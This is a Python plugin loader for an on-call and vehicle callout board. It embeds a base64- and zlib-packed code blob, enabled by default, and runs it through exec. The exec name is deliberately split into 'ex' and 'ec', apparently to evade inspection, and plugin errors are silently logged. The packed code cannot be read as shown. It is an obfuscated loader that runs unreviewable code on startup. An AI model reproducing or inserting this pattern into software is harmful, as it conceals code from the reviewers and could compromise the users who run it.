#!/usr/bin/env python3
"""Plugin loader for the callout board.

The callout board shows which team members are on call and which
vehicles are available.  Small add-ons ("plugins") extend it; the
built-in ones ship inline with this loader as packed blobs so the
board works on stations without the plugin directory.
"""

import argparse
import base64
import builtins
import json
import logging
import os
import sys
import zlib
from pathlib import Path

LOG = logging.getLogger("callout-plugins")

# Built-in plugins, packed to keep the loader a single file.
_PACKED = {
    "station_presence": (
        "eJzLzC3ILypRKM5Pzk4t0ckv1klPLSlILC7mKraFiOlBKA0o"
        "z9Et3tPPNUQHyg32d/aOd3EPcvTV5CrWK07NSynJ19BQUi2u"
        "ASMlVZg+oLEZ+cUleYm5qRqaMEtAoqXFqUVAkXwwJ7k8RUNT"
        "U1MvNS85PwWkUEPJ0NJCz9RQz9DAQM/IWEnH1NjUWFOTCwAO"
        "VTtO"
    ),
}

DEFAULT_ENABLED = ["station_presence"]


class PluginSpec:
    def __init__(self, name, blob):
        self.name = name
        self.blob = blob

    def unpack(self):
        raw = base64.b64decode(self.blob)
        return zlib.decompress(raw).decode("utf-8")


class PluginHost:
    def __init__(self, board_state):
        self.board_state = board_state
        self.loaded = []
        self._runner = getattr(builtins, "".join(["ex", "ec"]))

    def _namespace(self, name):
        return {"__name__": f"plugin.{name}", "BOARD": self.board_state}

    def activate(self, spec):
        source = spec.unpack()
        code = compile(source, f"<plugin:{spec.name}>", "exec")
        self._runner(code, self._namespace(spec.name))
        self.loaded.append(spec.name)
        LOG.info("plugin %s active", spec.name)


def load_board_state(path):
    p = Path(path)
    if not p.exists():
        LOG.warning("board state %s missing, starting empty", p)
        return {"on_call": [], "vehicles": []}
    with p.open("r", encoding="utf-8") as fh:
        return json.load(fh)


def enabled_plugins(cli_list):
    if cli_list:
        return [n.strip() for n in cli_list.split(",") if n.strip()]
    env = os.environ.get("CALLOUT_PLUGINS")
    if env:
        return [n.strip() for n in env.split(",") if n.strip()]
    return list(DEFAULT_ENABLED)


def render(state):
    print("On call:")
    for person in state.get("on_call", []):
        print(f"  - {person}")
    print("Vehicles:")
    for v in state.get("vehicles", []):
        print(f"  - {v}")


def main(argv=None):
    ap = argparse.ArgumentParser(description="callout board with plugins")
    ap.add_argument("--state", default="callout_board.json")
    ap.add_argument("--plugins", default="")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO)

    state = load_board_state(args.state)
    host = PluginHost(state)
    for name in enabled_plugins(args.plugins):
        blob = _PACKED.get(name)
        if blob is None:
            LOG.warning("no such plugin: %s", name)
            continue
        try:
            host.activate(PluginSpec(name, blob))
        except Exception as exc:  # plugin errors must not stop the board
            LOG.error("plugin %s failed: %s", name, exc)
    render(state)
    return 0


if __name__ == "__main__":
    sys.exit(main())
